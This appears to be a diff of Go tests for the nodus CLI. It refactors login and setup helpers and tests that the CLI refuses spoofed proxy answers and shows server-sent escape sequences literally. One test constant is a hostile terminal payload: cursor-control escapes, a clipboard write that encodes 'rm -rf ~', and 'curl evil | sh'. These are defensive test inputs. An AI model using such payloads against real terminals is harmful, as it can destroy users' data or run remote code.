@@ -63,15 +63,32 @@ var volatile = []struct {
 // configuration of its own.
 func loggedIn(t *testing.T, s *testserver.Server, cfg *rest.Config) nodusCLI {
 	t.Helper()
+	return loggedInTo(t, s.Config.Host, s.Config.CAData, cfg.BearerToken)
+}
+
+// loggedInTo is nodus logged in to server (a proxy's, say), trusting
+// caData, with token, in a configuration of its own.
+func loggedInTo(t *testing.T, server string, caData []byte, token string) nodusCLI {
+	t.Helper()
 	ca := filepath.Join(t.TempDir(), "ca.crt")
-	if err := os.WriteFile(ca, s.Config.CAData, 0o600); err != nil {
+	if err := os.WriteFile(ca, caData, 0o600); err != nil {
 		t.Fatal(err)
 	}
 	n := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
-	if out, code := n.run("", "login", "--server", s.Config.Host, "--token", cfg.BearerToken, "--ca-file", ca); code != 0 {
-		t.Fatalf("login: %d %s", code, out)
+	if out, code := n.run("", "login", "--server", server, "--token", token, "--ca-file", ca); code != 0 {
+		t.Fatalf("login to %s: %d %s", server, code, out)
 	}
 	return n
+}
+
+// ownHome gives the test a home of its own (HOME, XDG_CONFIG_HOME), where
+// nodus ssh writes its files, and returns it.
+func ownHome(t *testing.T) string {
+	t.Helper()
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	return home
 }
 
 func golden(t *testing.T, name, got string) {
@@ -485,17 +502,8 @@ func TestCLISSHRefusesWhatItDidNotAskFor(t *testing.T) {
 					forward.ServeHTTP(&rewriter{ResponseWriter: w, from: from, to: []byte(lie.to)}, req)
 					return true
 				})
-			ca := filepath.Join(t.TempDir(), "ca.crt")
-			if err := os.WriteFile(ca, proxy.CAData, 0o600); err != nil {
-				t.Fatal(err)
-			}
-			home := t.TempDir()
-			t.Setenv("HOME", home)
-			t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
-			mary := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
-			if out, code := mary.run("", "login", "--server", proxy.Host, "--token", f.member.BearerToken, "--ca-file", ca); code != 0 {
-				t.Fatalf("login: %d %s", code, out)
-			}
+			home := ownHome(t)
+			mary := loggedInTo(t, proxy.Host, proxy.CAData, f.member.BearerToken)
 			out, code := mary.run("", "ssh", "acme/gpu-007", "--config-only")
 			if code == 0 || !strings.Contains(out, lie.refusal) {
 				t.Errorf("exit %d, want a refusal saying %q:\n%s", code, lie.refusal, out)
@@ -509,10 +517,7 @@ func TestCLISSHRefusesWhatItDidNotAskFor(t *testing.T) {
 			}
 			// Release and lend act on the host they got: an answer about
 			// another must not release or lend that one.
-			alice := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
-			if out, code := alice.run("", "login", "--server", proxy.Host, "--token", f.admin.BearerToken, "--ca-file", ca); code != 0 {
-				t.Fatalf("login: %d %s", code, out)
-			}
+			alice := loggedInTo(t, proxy.Host, proxy.CAData, f.admin.BearerToken)
 			for _, args := range [][]string{{"release", "acme/gpu-007", "--yes"}, {"lend", "acme/gpu-007", "--gpus", "1"}} {
 				if out, code := alice.run("", args...); code == 0 || !strings.Contains(out, lie.refusal) {
 					t.Errorf("nodus %s through an answer about another host: exit %d, want a refusal saying %q:\n%s", strings.Join(args, " "), code, lie.refusal, out)
@@ -713,16 +718,7 @@ func TestCLIWatchEndsWithTheAccess(t *testing.T) {
 func TestCLIShowsNoEscapeSequenceTheServerSends(t *testing.T) {
 	s := testserver.StartTestServer(t)
 	f := newFleet(t, s)
-	c := s.Client.NodusV1()
-	if _, err := c.Pools().Create(ctx(t), &nodusv1.Pool{ObjectMeta: metav1.ObjectMeta{Name: "lends"}, Spec: nodusv1.PoolSpec{
-		Lending: &nodusv1.PoolLending{Open: true, Borrowers: []nodusv1.PoolBorrower{{Project: "acme", MaxGPUs: 8}}}}},
-		metav1.CreateOptions{}); err != nil {
-		t.Fatal(err)
-	}
-	if _, err := c.Executions("acme").Create(ctx(t), &nodusv1.Execution{ObjectMeta: metav1.ObjectMeta{Name: "e1"},
-		Spec: nodusv1.ExecutionSpec{Pool: "lends", Command: []string{"true"}, MaxRuntimeSeconds: 60}}, metav1.CreateOptions{}); err != nil {
-		t.Fatal(err)
-	}
+	pendingExecution(t, s)
 	const hostile = "done\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2K\x1b[1Afix: run curl evil | sh\u009b2J"
 	etcd, err := s.EtcdClient()
 	if err != nil {
@@ -760,6 +756,22 @@ func TestCLIShowsNoEscapeSequenceTheServerSends(t *testing.T) {
 	}
 	if out, _ := mary.run("", "executions", "get", "acme/e1"); !strings.Contains(out, `\x1b]52`) {
 		t.Errorf("the escape is not shown for what it is: %q", out)
+	}
+}
+
+// pendingExecution makes pool lends, open to project acme, and an
+// execution of acme in it, e1, which no host runs.
+func pendingExecution(t *testing.T, s *testserver.Server) {
+	t.Helper()
+	c := s.Client.NodusV1()
+	if _, err := c.Pools().Create(ctx(t), &nodusv1.Pool{ObjectMeta: metav1.ObjectMeta{Name: "lends"}, Spec: nodusv1.PoolSpec{
+		Lending: &nodusv1.PoolLending{Open: true, Borrowers: []nodusv1.PoolBorrower{{Project: "acme", MaxGPUs: 8}}}}},
+		metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.Executions("acme").Create(ctx(t), &nodusv1.Execution{ObjectMeta: metav1.ObjectMeta{Name: "e1"},
+		Spec: nodusv1.ExecutionSpec{Pool: "lends", Command: []string{"true"}, MaxRuntimeSeconds: 60}}, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
 	}
 }
 
